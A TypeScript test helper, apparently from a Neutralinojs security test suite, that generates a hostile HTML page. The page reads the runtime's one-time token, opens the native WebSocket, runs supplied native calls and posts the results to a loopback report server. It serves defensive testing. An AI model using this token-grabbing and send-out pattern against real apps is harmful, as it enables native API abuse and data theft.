/**
 * A page a hostile script could be: loaded by the real window (`--url=/attack.html`), it takes the
 * one-time token from the runtime's globals like the app does, makes native calls the way
 * @neutralinojs/lib does, and posts every answer to a report server on loopback.
 */
export function attackPage(reportUrl: string, calls: readonly [string, unknown][]): string {
  return `<!doctype html><html><body><script src="/__neutralino_globals.js"></script><script>
(async () => {
  const report = (data) => fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(data) });
  try {
    const token = window.NL_TOKEN || '';
    const ws = new WebSocket('ws://127.0.0.1:' + window.NL_PORT + '?connectToken=' + (token.split('.')[1] || ''));
    const pending = new Map();
    ws.onmessage = (e) => { const m = JSON.parse(e.data); if (m.id && pending.has(m.id)) { pending.get(m.id)(m.data); pending.delete(m.id); } };
    await new Promise((resolve, reject) => { ws.onopen = resolve; ws.onerror = () => reject(new Error('socket')); });
    let n = 0;
    const call = (method, data) => new Promise((resolve) => { const id = 'a' + (n++); pending.set(id, resolve); ws.send(JSON.stringify({ id, method, data, accessToken: token })); });
    const results = {};
    for (const [method, data] of ${JSON.stringify(calls)}) results[method] = await call(method, data);
    report({ hadToken: token !== '', results });
  } catch (error) {
    report({ error: String(error) });
  }
})();
</script></body></html>`;
}
